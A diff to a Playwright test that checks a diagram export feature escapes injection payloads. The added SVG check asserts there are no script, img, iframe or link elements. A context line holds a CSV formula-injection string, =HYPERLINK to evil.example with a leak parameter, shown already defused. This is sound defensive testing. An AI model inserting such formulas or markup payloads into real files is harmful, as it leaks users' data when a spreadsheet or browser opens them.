@@ -257,6 +257,19 @@ test('exports carry the payloads as escaped data', async ({ page }) => {
     expect(labels, format).toEqual(expect.arrayContaining([IMG, CLAIM_LABEL, JS_URL, ARABIC]));
   }
 
+  // SVG: labels and the caption are text, never markup.
+  const svg = await exportText(page, 'SVG image');
+  const svgParts = await page.evaluate((source) => {
+    const doc = new DOMParser().parseFromString(source, 'image/svg+xml');
+    return {
+      errors: doc.getElementsByTagName('parsererror').length,
+      active: doc.querySelectorAll('script, img, foreignObject, a, iframe').length,
+      ids: [...doc.querySelectorAll('#nodes > g')].map((g) => g.getAttribute('data-id')),
+    };
+  }, svg);
+  expect(svgParts).toMatchObject({ errors: 0, active: 0 });
+  expect(svgParts.ids).toEqual(expect.arrayContaining(['img-group', 'mallory']));
+
   // CSV: a cell a spreadsheet would evaluate is defused with a leading quote.
   const csv = await exportText(page, 'CSV nodes');
   expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak"",""click me"")"`);
